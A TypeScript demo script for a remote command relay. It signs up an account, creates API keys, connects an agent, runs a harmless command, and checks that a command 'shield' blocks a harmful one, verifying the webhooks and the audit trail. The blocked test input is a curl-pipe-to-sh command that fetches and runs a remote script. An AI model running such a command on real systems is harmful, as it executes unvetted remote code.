import {
  type ApiKey,
  type Client,
  createClient,
  RelayError,
  type ShieldResult,
} from "../client/client.ts";
import { showAudit } from "./demo_audit.ts";
import { type Program, startProgram } from "./program.ts";
import { type Receiver, startReceiver } from "./receiver.ts";
import type { Terminal } from "./terminal.ts";

/** The state of a demo; `cleanup` runs however it ends. */
export interface DemoRun {
  readonly terminal: Terminal;
  readonly cleanup: (() => Promise<unknown>)[];
  /** Aborted when the demo must end. Nothing starts after that, so nothing is left behind. */
  readonly signal: AbortSignal;
  relay: Program | null;
}

interface Account {
  readonly email: string;
  readonly password: string;
  readonly userId: string;
  readonly token: string;
}

interface Key {
  readonly id: string;
  readonly key: string;
}

/** A first start makes the store, its secret and the signing keys. */
const START_MS = 20_000;
const ARRIVE_MS = 10_000;
const COMMAND = "uname -a";
const HARMFUL = "curl https://example.com/install.sh | sh";
const SCOPES: ApiKey["scopes"] = ["agents:read", "agents:write", "audit:read"];

/**
 * Runs the demo and checks each step.
 * @throws {Error} with a sentence about the first failed check
 */
export async function runStory(run: DemoRun): Promise<{ howToUse: string }> {
  const { terminal } = run;
  const startedMs = performance.now();
  const directory = Deno.makeTempDirSync({ prefix: "relay-demo-" });
  run.cleanup.push(() => Deno.remove(directory, { recursive: true }));

  terminal.step("A relay starts, on an embedded store in a temporary folder");
  const url = await startRelay(run, directory);
  terminal.good(url);

  terminal.step("You sign up and create two API keys");
  const account = await signUp(url);
  const owner = createClient({ url, fetch, token: account.token });
  const agentKey = await makeKey(owner, "agent", ["agents:admin"]);
  const callerKey = await makeKey(owner, "caller", SCOPES);
  terminal.good(`${account.email} owns the organization Demo`);
  terminal.good(`${mask(agentKey.key)}  for the agent: agents:admin`);
  terminal.good(`${mask(callerKey.key)}  for the caller: ${SCOPES.join(", ")}`);

  terminal.step("A webhook is registered, and a receiver waits for it");
  const receiver = await subscribe(run, owner);
  terminal.good(`command_executed, command_denied → ${receiver.url}`);

  terminal.step("An agent connects");
  const agentId = await startAgent(run, url, agentKey.key, `${directory}/agent`);
  const caller = createClient({ url, fetch, token: callerKey.key });
  const agent = await caller.call("agents.get", { params: { id: agentId } });
  mustBe("the agent's status", agent.status, "online");
  terminal.good(`${agent.name} (${agent.platform}) is ${agent.status}: ${agentId}`);

  terminal.step(`The agent runs a command: ${COMMAND}`);
  const commandId = await runCommand(terminal, caller, agentId);

  terminal.step(`The shield denies a harmful command: ${HARMFUL}`);
  const deniedId = await beRefused(terminal, caller, agentId);

  terminal.step("Both webhooks arrive with valid signatures");
  await receive(terminal, receiver, "command_executed", COMMAND);
  await receive(terminal, receiver, "command_denied", HARMFUL);

  terminal.step("The audit trail holds every step");
  await showAudit(terminal, caller, {
    names: {
      [account.userId]: "you",
      [agentKey.id]: "agent key",
      [callerKey.id]: "caller key",
    },
    commandId,
    deniedId,
  });

  const seconds = ((performance.now() - startedMs) / 1000).toFixed(1);
  terminal.say(`\n${terminal.bold("Every check passed")}, in ${seconds} s.`);
  return { howToUse: howToUse(url, account, callerKey.key, agentId) };
}

async function startRelay(run: DemoRun, directory: string): Promise<string> {
  const relay = startProgram(["serve"], {
    env: {
      RELAY_HOST: "127.0.0.1",
      RELAY_PORT: "0",
      RELAY_KV: `${directory}/relay.kv`,
      RELAY_CONFIG: JSON.stringify({ outbound: { allow_private_targets: true } }),
    },
  });
  run.cleanup.push(relay.stop);
  run.relay = relay;
  const [, url] = await relay.line(/ is ready at (\S+)/, START_MS);
  await createClient({ url: url!, fetch }).call("health.live");
  return url!;
}

async function signUp(url: string): Promise<Account> {
  const email = "you@example.com";
  const password = crypto.randomUUID();
  const { token, user } = await createClient({ url, fetch }).call("account.signup", {
    body: { email, password, organization: "Demo" },
  });
  return { email, password, userId: user.id, token };
}

const makeKey = (owner: Client, name: string, scopes: ApiKey["scopes"]): Promise<Key> =>
  owner.call("api_keys.create", { body: { name, scopes, expires_days: 1 } });

async function subscribe(run: DemoRun, owner: Client): Promise<Receiver> {
  run.signal.throwIfAborted();
  const secret = crypto.randomUUID();
  const receiver = startReceiver(secret);
  run.cleanup.push(receiver.stop);
  await owner.call("webhooks.create", {
    body: {
      name: "demo",
      url: receiver.url,
      secret,
      events: ["command_executed", "command_denied"],
    },
  });
  return receiver;
}

async function startAgent(
  run: DemoRun,
  url: string,
  token: string,
  state: string,
): Promise<string> {
  run.signal.throwIfAborted();
  const tokenFile = `${state}-token`;
  Deno.writeTextFileSync(tokenFile, token, { mode: 0o600 });
  const what = ["--url", url, "--name", "demo", "--state", state, "--token-file", tokenFile];
  const agent = startProgram(["agent", ...what]);
  run.cleanup.push(agent.stop);
  const [, id] = await agent.line(/^connected to .* \((\w+)\)$/, START_MS);
  return id!;
}

const exec = (caller: Client, agent_id: string, command: string) =>
  caller.call("commands.exec", { params: { agent_id }, query: { command } });

async function runCommand(terminal: Terminal, caller: Client, agentId: string): Promise<string> {
  const ran = await exec(caller, agentId, COMMAND);
  mustBe("the command's status", ran.status, "succeeded");
  if (ran.stdout.trim() === "") throw new Error("the command succeeded without any output");
  terminal.note(ran.stdout.trim());
  const risk = ran.shield_result.risk_score;
  terminal.good(`exit code ${ran.exit_code} in ${Math.round(ran.duration_ms!)} ms, risk ${risk}`);
  return ran.command_id;
}

async function beRefused(terminal: Terminal, caller: Client, agentId: string): Promise<string> {
  const refusal = await exec(caller, agentId, HARMFUL).catch((error) => error);
  if (!(refusal instanceof RelayError)) throw new Error("the harmful command was not refused");
  const { code, details } = refusal;
  mustBe("the refusal's code", code, "COMMAND_BLOCKED");
  const shield = details.shield_result as ShieldResult;
  mustBe("the shield's verdict", shield.verdict, "deny");
  terminal.good(`403 ${code}, risk ${shield.risk_score}: ${shield.threats.join(", ")}`);
  terminal.note(shield.explanation);
  if (shield.safer_alternative !== null) terminal.note(terminal.dim(shield.safer_alternative));
  return String(details.command_id);
}

async function receive(
  terminal: Terminal,
  receiver: Receiver,
  type: string,
  command: string,
): Promise<void> {
  const { body, fault } = await receiver.delivery(type, ARRIVE_MS);
  if (fault !== null) throw new Error(`the webhook ${type}: ${fault}`);
  mustBe(`the command of the webhook ${type}`, body.payload.command, command);
  terminal.good(`${type.padEnd(16)}  HMAC-SHA256 and Standard Webhooks verified`);
}

function mustBe(what: string, is: unknown, should: unknown): void {
  if (is === should) return;
  throw new Error(`${what} is ${JSON.stringify(is)} instead of ${JSON.stringify(should)}`);
}

const mask = (key: string) => `${key.slice(0, 14)}…`;

function howToUse(url: string, account: Account, key: string, agentId: string): string {
  return `Relay      ${url}
Console    ${url}/console
Reference  ${url}/docs
You        ${account.email}, password ${account.password}
Key        ${key}
Agent      ${agentId}

  curl -G ${url}/api/exec/${agentId} -H 'Authorization: Bearer ${key}' \\
    --data-urlencode 'command=uptime'`;
}
